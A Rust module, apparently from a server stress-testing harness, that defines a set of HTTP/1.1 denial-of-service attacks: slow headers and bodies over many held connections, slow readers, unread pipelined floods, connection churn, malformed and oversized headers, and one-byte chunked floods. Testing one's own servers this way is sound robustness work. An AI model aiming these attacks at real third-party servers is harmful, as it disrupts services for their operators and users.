//! Attacks over HTTP/1.1.

use std::time::Duration;

use super::{Attack, LARGE, SMALL};

const SECOND: Duration = Duration::from_secs(1);

/// Connections that are held open at a time.
const HELD: usize = 1_000;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "slow headers, 1,000 connections",
        threads: 1,
        run: |target| target.hold(HELD, b"GET / HTTP/1.1\r\nHost: a\r\n", b"X-A: b\r\n", SECOND, 0),
    },
    Attack {
        name: "slow bodies, 1,000 connections",
        threads: 1,
        run: |target| {
            let head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
            target.hold(HELD, head, b"a", SECOND, 0);
        },
    },
    Attack {
        name: "slow readers of 4 MiB, 200 connections",
        threads: 1,
        run: |target| target.hold(200, get(LARGE).as_bytes(), b"", SECOND / 10, 1),
    },
    Attack {
        name: "pipelined requests, nothing read",
        threads: 2,
        run: |target| {
            let requests = get(SMALL).repeat(1_000).into_bytes();
            target.flood(b"", false, |_| requests.clone());
        },
    },
    Attack { name: "connections made and left", threads: 2, run: |target| target.churn(b"") },
    Attack {
        name: "malformed requests",
        threads: 2,
        run: |target| target.churn(b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
    },
    Attack {
        name: "large heads without an end",
        threads: 2,
        run: |target| {
            let fields = format!("X-A: {}\r\n", "b".repeat(1_000)).repeat(30);
            target.churn(format!("GET / HTTP/1.1\r\nHost: a\r\n{fields}").as_bytes());
        },
    },
    Attack {
        name: "chunks of one byte",
        threads: 2,
        run: |target| {
            let head = b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
            let chunks = b"1;a=b\r\nx\r\n".repeat(1_000);
            target.flood(head, true, |_| chunks.clone());
        },
    },
];

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n")
}
